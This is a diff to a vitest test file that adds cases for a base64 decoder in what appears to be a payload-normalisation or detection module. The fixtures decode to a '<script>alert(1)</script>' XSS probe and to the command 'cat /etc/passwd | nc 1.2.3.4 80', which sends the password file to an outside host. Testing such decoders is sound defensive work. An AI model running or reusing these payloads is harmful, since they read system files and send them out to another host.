@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { backslashDecode, fold, htmlDecode, normalise, percentDecode } from './decode.js';
+import { backslashDecode, base64Text, fold, htmlDecode, normalise, percentDecode } from './decode.js';
 
 describe('normalise', () => {
   it('percent-decodes until stable: single, double and triple encoding', () => {
@@ -60,5 +60,28 @@ describe('normalise', () => {
     expect(normalise('Hello World')).toBe('hello world');
     expect(normalise('100%')).toBe('100%');
     expect(normalise('%zz')).toBe('%zz');
+  });
+});
+
+describe('base64Text', () => {
+  it('decodes base64 and base64url values, padded, unpadded or percent-encoded, to their text', () => {
+    expect(base64Text('PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==')).toBe('<script>alert(1)</script>');
+    expect(base64Text('PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg')).toBe('<script>alert(1)</script>');
+    expect(base64Text('PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D')).toBe('<script>alert(1)</script>');
+    expect(base64Text('Y2F0IC9ldGMvcGFzc3dkIHwgbmMgMS4yLjMuNCA4MA')).toBe('cat /etc/passwd | nc 1.2.3.4 80');
+    expect(base64Text('P3E9YWJjJnQ9MT8_Pz4-')).toBe('?q=abc&t=1???>>');
+  });
+
+  it('leaves tokens, hashes, ids, words and short values alone', () => {
+    for (const v of [
+      'd41d8cd98f00b204e9800998ecf8427e',
+      'k3JpX9qLm2ZtR7vB1nYw0sUe',
+      'electronicsaccessories',
+      'aGVsbG8=',
+      '550e8400-e29b-41d4-a716-446655440000',
+      'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==&x',
+    ]) {
+      expect(base64Text(v), v).toBeUndefined();
+    }
   });
 });
